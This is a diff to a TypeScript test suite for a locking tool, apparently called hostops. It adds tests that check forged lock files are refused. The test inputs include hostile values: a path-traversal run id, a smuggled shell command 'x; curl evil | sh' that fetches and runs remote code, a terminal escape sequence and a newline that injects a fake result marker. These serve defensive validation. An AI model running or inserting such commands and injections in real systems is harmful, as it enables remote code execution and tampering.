@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process'
-import { randomUUID } from 'node:crypto'
+import { createHash, randomUUID } from 'node:crypto'
 import {
   chmodSync,
   existsSync,
@@ -102,6 +102,37 @@ describe('the lock on the target', () => {
       expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'interrupted-run', runId: 'first' } })
     })
   })
+
+  test.each<[string, object]>([
+    ['a path for its run', { runId: '../../../../tmp/evil' }],
+    ['a command for its run', { runId: 'x; curl evil | sh' }],
+    ['escapes', { who: '\u001b]0;x\u0007' }],
+    ['a line break', { since: 'now\nOPENCLAW_RESULT_JSON:{}' }],
+    ['a novel', { machine: 'm'.repeat(500) }],
+    ['no process', { pid: -1 }],
+  ])(
+    'with %s was not written by hostops, whatever another user of the machine put there',
+    async (_, fields) => {
+      const name = newName()
+      const file = `${createHash('sha256').update(name).digest('hex').slice(0, 32)}.lock`
+      const content = JSON.stringify({ ...lockAs('other').holder, ...fields })
+      const as = (verb: string) => spawnSync('sh', ['-c', LOCK_SCRIPT, 'x', verb, file, content, '']).stdout
+      expect(String(as('acquire'))).toBe('mine\n')
+      try {
+        const { end } = await play({
+          transport,
+          lock: { ...lockAs('second'), judge: () => expect.unreachable() },
+          steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
+        })
+        expect(end).toMatchObject({
+          outcome: 'refused',
+          failure: { code: 'lock-held', holder: 'something that hostops did not write' },
+        })
+      } finally {
+        as('release')
+      }
+    },
+  )
 
   test('of a holder that is proven dead after it had finished is taken over', async () => {
     const name = newName()
